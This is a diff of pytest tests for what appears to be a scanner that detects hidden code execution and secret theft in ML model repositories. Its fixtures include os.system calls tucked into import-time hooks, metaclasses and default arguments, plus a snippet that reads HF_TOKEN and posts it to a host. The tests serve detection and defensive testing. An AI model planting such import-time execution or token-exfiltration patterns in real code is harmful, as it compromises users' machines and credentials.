@@ -5,16 +5,84 @@ from __future__ import annotations
 import pytest
 
 from scanner.code.calls import find_calls
+from scanner.findings import Severity
+from tests.assets.code_cases import HARMLESS_CODE, hidden_code
+
+FROM_PRETRAINED = b"from transformers import AutoModel\nAutoModel.from_pretrained"
 
 
 @pytest.mark.parametrize(
     ("source", "expected"),
     [
-        (b"from transformers import AutoModel\nAutoModel.from_pretrained('a/b', trust_remote_code=True)", 1),
-        (b"self.factory().load('a/b', trust_remote_code=True)", 1),
-        (b"from transformers import AutoModel\nAutoModel.from_pretrained('a/b', trust_remote_code=False)", 0),
-        (b"def load(trust_remote_code):\n  return make('a/b', trust_remote_code=trust_remote_code)", 0),
+        (FROM_PRETRAINED + b"('a/b', trust_remote_code=True)", "foreign"),
+        (b"self.factory().load('a/b', trust_remote_code=True)", "foreign"),
+        (b"self.factory().load(path, trust_remote_code=True)", "trust"),
+        (FROM_PRETRAINED + b"('a/b', trust_remote_code=True, revision='" + b"0a" * 20 + b"')", "trust"),
+        (FROM_PRETRAINED + b"('a/b', trust_remote_code=False)", ""),
+        (b"def load(trust_remote_code):\n  return make('a/b', trust_remote_code=trust_remote_code)", ""),
     ],
 )
-def test_trust_in_code_of_another_repository_is_execution(source: bytes, expected: int) -> None:
-    assert [site.kind for site in find_calls(source)] == ["execution"] * expected
+def test_trust_is_told_by_whose_code_it_trusts(source: bytes, expected: str) -> None:
+    assert [site.kind for site in find_calls(source)] == ([expected] if expected else [])
+
+
+@pytest.mark.parametrize("source", hidden_code())
+def test_hidden_calls_are_found(source: str) -> None:
+    assert max(site.severity.rank for site in find_calls(source.encode())) >= Severity.HIGH.rank
+
+
+def test_harmless_code_has_nothing_to_explain() -> None:
+    assert find_calls(HARMLESS_CODE.encode()) == []
+
+
+@pytest.mark.parametrize(
+    ("source", "phase"),
+    [
+        ("import os\nos.system('x')", "import"),
+        ("import os\ndef f(): os.system('x')\nf()", "import"),
+        ("import os\ndef f(): os.system('x')\ndef g(): f()\ng()", "import"),
+        ("import os\ndef f(): os.system('x')\nimport atexit\natexit.register(f)", "import"),
+        ("import os\ndef f(x): os.system('x')\n@f\ndef g(): pass", "import"),
+        ("import os\nclass A:\n  def __init__(self): os.system('x')\nA()", "import"),
+        ("import os\nclass A:\n  x = os.system('x')", "import"),
+        ("import os\nclass A:\n  def __init_subclass__(cls): os.system('x')", "import"),
+        ("import os\nclass M(type):\n  def __new__(c, *a): os.system('x')", "import"),
+        ("import os\ndef __getattr__(name): os.system('x')", "import"),
+        ("import os\ndef f(x=os.system('x')): pass", "import"),
+        (
+            "import os\nclass A:\n  def __init__(self): self.f()\n  def f(self): os.system('x')",
+            "construction",
+        ),
+        ("import os\nclass A:\n  def forward(self): os.system('x')", "call"),
+        ("import os\ndef f(): os.system('x')", "call"),
+        ("import os\nif __name__ == '__main__': os.system('x')", "main"),
+    ],
+)
+def test_phase_says_when_a_call_runs(source: str, phase: str) -> None:
+    assert [site.phase.value for site in find_calls(source.encode()) if site.kind == "process"] == [phase]
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "def f(path):\n    from huggingface_hub import hf_hub_download\n    return hf_hub_download(path)",
+        "import requests\nclass P:\n    def image(self, url): return requests.get(url)",
+        "def save(self, path):\n    with open(path, 'w') as f: f.write('x')",
+        "import importlib\ndef f(name): return importlib.import_module(name)",
+        "from functools import reduce\ndef f(m, n): return reduce(getattr, n.split('.'), m)",
+        "import torch\ndef f(p): return torch.load(p)",
+        "'Tokens lie in ~/.cache/huggingface/token, see https://1.2.3.4/.'",
+        "def f(self):\n    self.eval()\n    return self.compile('x')",
+        "x = 'Größe'\nname = 'Ωmega'  # ｆｕｌｌ width in a comment",
+        "import os\nx = os.path.join('a', 'b')\nhasattr(os, 'fork')",
+        "def decorate(f): return f\n@decorate\ndef g(): pass",
+    ],
+)
+def test_honest_code_is_no_attack(source: str) -> None:
+    assert all(site.severity.rank < Severity.HIGH.rank for site in find_calls(source.encode()))
+
+
+def test_secrets_and_a_connection_in_one_file_are_told_together() -> None:
+    source = b"import os, requests\nk = os.environ['HF_TOKEN']\ndef f(): requests.post('http://x', data=k)"
+    found = [site for site in find_calls(source) if site.kind == "exfiltration"]
+    assert [site.sentence for site in found] == ["reads secrets in line 2 and can send them away in line 3"]
